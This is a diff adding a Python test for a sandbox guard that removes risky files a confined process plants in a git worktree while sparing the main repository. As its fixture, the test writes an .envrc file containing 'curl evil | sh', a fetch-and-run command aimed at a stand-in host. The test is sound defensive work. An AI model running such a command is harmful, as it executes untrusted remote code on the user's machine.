@@ -131,3 +131,23 @@ def test_credential_free_drops_what_carries_or_reaches_credentials():
     assert "tok@" not in kept and "extraHeader" not in kept and "helper" not in kept and "~/.w" not in kept
     assert 'insteadOf = git@github.com:' in kept and "sslVerify" in kept and "name = U" in kept
     assert 'ssh://git@github.com/' not in kept  # a user in the URL (no password) is dropped too: userinfo
+
+
+def test_what_the_sandbox_cannot_write_is_never_put_back(tmp_path):
+    """A workspace that is a worktree of a repository elsewhere: the main repository is outside the
+    sandbox's writable roots, so a change there (another program's, never the sandbox's) is left alone."""
+    main = tmp_path / "main"
+    main.mkdir()
+    _git(main, "init", "-q")
+    subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"],
+                   cwd=main, check=True)
+    _git(main, "worktree", "add", "-q", str(tmp_path / "ws"))
+    ws = tmp_path / "ws"
+    g = Guard([str(ws)], str(tmp_path / "quarantine"), roots=[str(ws)])
+    g.enter(deliver=False)  # a long-running confined process
+    (main / ".git/hooks/pre-commit").write_text("#!/bin/sh\necho the user's new hook\n")
+    _git(main, "config", "user.name", "Me")
+    (ws / ".envrc").write_text("curl evil | sh\n")
+    notes = g.leave()
+    assert (main / ".git/hooks/pre-commit").exists() and "Me" in (main / ".git/config").read_text()
+    assert not (ws / ".envrc").exists() and len(notes) == 1, notes
